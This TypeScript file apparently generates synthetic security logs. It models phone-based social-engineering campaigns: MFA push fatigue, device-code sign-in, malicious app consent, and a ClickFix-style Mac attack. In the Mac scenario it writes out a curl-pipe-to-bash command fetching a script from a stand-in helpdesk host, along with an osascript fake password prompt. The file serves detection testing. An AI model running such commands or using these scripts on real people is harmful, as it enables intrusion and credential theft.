import { browserDownload, dnsLookup } from '../../../../standalone/generator/host_events/endpoint';
import { officeEvent } from '../../../../standalone/generator/host_events/office';
import { oktaEvent } from '../../../../standalone/generator/host_events/okta';
import { officeOf, RENTED_SERVER } from '../../../../standalone/generator/host_events/places';
import { EDGE } from '../../../../standalone/generator/host_events/programs';
import { MINUTE_MS, SECOND_MS } from '../../../../standalone/generator/local_time';
import { atDesk, hasHost } from '../../../../standalone/generator/near_misses/near_miss';
import { AUSTIN, BERLIN, LONDON } from '../../../../standalone/generator/sites';
import { consentGranted, deviceCodeSignIn, googleEvent, macProcess } from '../more_events';
import { onComputer, oneCallAttack, type CampaignMaker } from './campaign';

/** Cisco 2022, C0027: refused pushes for 25 minutes, a short call "approve and it stops", the attacker's own factor. */
export const pushFatigueCall: CampaignMaker = ({ random, callStartMs, take }) => {
  const victim = take(({ site, roles }) => site === AUSTIN && roles.includes('finance'));
  const at = (minutes: number): number => callStartMs + Math.round(minutes * MINUTE_MS);
  const thief = { actor: victim, place: RENTED_SERVER };
  return oneCallAttack({
    id: 'push_fatigue_call',
    callStartMs,
    victim,
    minutes: 3.2,
    number: '+12025550168',
    events: [
      ...Array.from({ length: 12 }, (_, nth) =>
        oktaEvent(random, {
          ...thief,
          action: 'user.mfa.okta_verify.deny_push',
          timeMs: at(-25 + nth * 2.2),
          outcome: 'failure',
          reason: 'User rejected Okta push verify',
        })
      ),
      oktaEvent(random, { ...thief, action: 'user.authentication.auth_via_mfa', timeMs: at(2) }),
      oktaEvent(random, { ...thief, action: 'user.session.start', timeMs: at(4) }),
      oktaEvent(random, { ...thief, action: 'user.mfa.factor.activate', timeMs: at(10) }),
    ],
  });
};

/** Storm-2372: the caller has the victim type a device code into Microsoft's own page. */
export const deviceCodeCall: CampaignMaker = ({ random, callStartMs, take }) => {
  const victim = atDesk(
    take((person) => person.site === BERLIN && person.roles.includes('finance') && hasHost(person))
  );
  const at = onComputer(random, victim, callStartMs);
  return oneCallAttack({
    id: 'device_code_call',
    callStartMs,
    victim,
    minutes: 11,
    number: '+494066969188',
    events: [
      dnsLookup(at(3), EDGE, 'microsoft.com'),
      deviceCodeSignIn(random, { timeMs: at(4).timeMs, user: victim, place: RENTED_SERVER }),
      ...Array.from({ length: 40 }, (_, nth) =>
        officeEvent(random, {
          action: 'MailItemsAccessed',
          workload: 'Exchange',
          timeMs: at(15).timeMs + nth * 5 * SECOND_MS,
          user: victim,
        })
      ),
    ],
  });
};

/** UNC6040 (C0059): "IT" has the victim connect an app that copies the customer data. */
export const connectedApp: CampaignMaker = ({ random, callStartMs, take }) => {
  const victim = take(({ site, department }) => site !== AUSTIN && department === 'Sales');
  return oneCallAttack({
    id: 'connected_app',
    callStartMs,
    victim,
    minutes: 14,
    number: '+12025550173',
    events: [
      consentGranted(random, {
        timeMs: callStartMs + 8 * MINUTE_MS,
        user: victim,
        app: 'My Ticket Portal',
        place: officeOf(LONDON),
      }),
      ...Array.from({ length: 60 }, (_, nth) =>
        officeEvent(random, {
          action: 'FileDownloaded',
          workload: 'SharePoint',
          timeMs: callStartMs + 20 * MINUTE_MS + nth * 4 * SECOND_MS,
          user: victim,
        })
      ),
    ],
  });
};

/** ClickFix by phone on a Mac: a line for the Terminal, then the Google account gets another recovery phone. */
export const macTerminalLine: CampaignMaker = ({ random, callStartMs, take }) => {
  const victim = atDesk(take((person) => person.department === 'Marketing' && hasHost(person)));
  const at = onComputer(random, victim, callStartMs);
  const place = RENTED_SERVER;
  return oneCallAttack({
    id: 'mac_terminal_line',
    callStartMs,
    victim,
    minutes: 8,
    number: '+12025550179',
    events: [
      browserDownload(at(3), EDGE, {
        name: 'fix.pkg',
        folder: `/Users/${victim.account}/Downloads`,
        originUrl: 'https://mac-helpdesk.example.net/fix.pkg',
        size: 190_211,
      }),
      macProcess(
        at(4),
        { name: 'curl', folder: '/usr/bin' },
        'curl -fsSL https://mac-helpdesk.example.net/fix.sh'
      ),
      macProcess(at(4), { name: 'bash', folder: '/bin' }, 'bash -c curl -fsSL fix.sh | bash'),
      macProcess(
        at(5),
        { name: 'osascript', folder: '/usr/bin' },
        'osascript -e display dialog "Password" with hidden answer'
      ),
      googleEvent(random, {
        kind: 'login',
        action: 'suspicious_login',
        timeMs: at(18).timeMs,
        user: victim,
        place,
      }),
      googleEvent(random, {
        kind: 'user_accounts',
        action: 'recovery_phone_edit',
        timeMs: at(24).timeMs,
        user: victim,
        place,
      }),
    ],
  });
};
